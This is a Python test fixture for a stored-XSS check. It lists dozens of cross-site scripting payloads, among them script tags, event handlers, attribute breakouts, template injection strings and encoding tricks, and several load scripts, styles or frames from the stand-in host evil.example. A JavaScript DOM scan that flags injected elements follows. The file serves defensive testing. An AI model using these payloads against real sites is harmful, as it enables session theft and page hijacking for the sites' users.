"""Payloads for the stored-XSS test. Each one, if the page ran it as markup,
would set `window.__xss`, open a dialog, fetch from evil.example or leave an
element the DOM scan finds. All fit a staff or client name (120 characters)."""

from __future__ import annotations

EVIL = "evil.example"

PAYLOADS: list[str] = [
    # Script and event handlers
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    f"<script src=//{EVIL}/x.js></script>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="x" onerror="&#119;indow.__xss=1">',
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<body onload=window.__xss=1>",
    "<audio src=x onerror=window.__xss=1>",
    '<video><source onerror="window.__xss=1"></video>',
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<x contenteditable onblur=window.__xss=1>lose focus",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    # Breaking out of an attribute, a textarea, the title, a script, an option
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus x='",
    '" autofocus onfocus="window.__xss=1" x="',
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "</script><svg onload=alert(1)>",
    "</option></select><img src=x onerror=window.__xss=1>",
    '"-alert(1)-"',
    "';window.__xss=1;//",
    # Template injection: must stay literal text
    "{{7*7}} {{constructor.constructor('window.__xss=1')()}}",
    "${window.__xss=1} ${7*7}",
    "{% debug %} {{ request }} {{ settings.SECRET_KEY }}",
    "#{7*7} <%= 7*7 %>",
    # Unicode and encoding tricks
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "\u202e<script>window.__xss=1</script>",
    "<scr\u200bipt>window.__xss=1</scr\u200bipt>",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=1&#62;",
    # Frames, styles and other ways to reach another host
    f"<iframe src=//{EVIL}></iframe>",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>@import url(//{EVIL}/a.css);</style>",
    f"<style>*{{background:url(//{EVIL}/s.png)}}</style>",
    f'<div style="background:url(//{EVIL}/bg.png)">css</div>',
    f"<img src=//{EVIL}/p.png>",
    f'<img srcset="//{EVIL}/s.png 1x">',
    f"<svg><image href=//{EVIL}/i.png />",
    f"<object data=//{EVIL}/o.swf>",
    f"<embed src=//{EVIL}/e.swf>",
    f"<base href=//{EVIL}/>",
    f'<meta http-equiv=refresh content="0;url=//{EVIL}/">',
    # javascript: and data: addresses, markdown-ish links, and the auto-linker
    '<a href="javascript:window.__xss=1">click me</a>',
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "[click](javascript:window.__xss=1)",
    f"![img](//{EVIL}/md.png)",
    f'https://{EVIL}/"onmouseover="window.__xss=1',
    f"https://{EVIL}/<img src=x onerror=window.__xss=1>",
    "http://x.example/?a=1&b=<svg/onload=window.__xss=1>",
    f"https://{EVIL}/x' onclick='window.__xss=1",
]

# Runs in the page after it has loaded: every element that looks injected rather
# than rendered as text. The app itself has no inline script, handler or style.
INJECTED_JS = r"""
() => {
  const found = [];
  const here = location.origin;
  const own = (url) => !url || new URL(url, location.href).origin === here;
  for (const el of document.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    for (const a of el.attributes) {
      if (a.name.startsWith("on")) found.push(`${tag}[${a.name}]`);
      const scheme = /^\s*(javascript|data|vbscript):/i;
      if (scheme.test(a.value)) found.push(`${tag}[${a.name}=${a.value}]`);
      if (a.name === "style" && /url\(/i.test(a.value)) found.push(`${tag}[style]`);
    }
    if (["iframe", "frame", "object", "embed", "base", "style", "img", "audio", "video",
         "marquee", "math", "image", "animate"].includes(tag)) found.push(tag);
    if (tag === "meta" && el.hasAttribute("http-equiv")) found.push("meta[http-equiv]");
    if (tag === "link" && !own(el.getAttribute("href"))) found.push("link");
    if (tag === "script" && el.type !== "application/json" && !(el.src && own(el.src))) {
      found.push("script");
    }
    if (tag === "a" && el.href && !/^https?:/.test(el.href)) found.push(`a[href=${el.href}]`);
  }
  return found;
}
"""
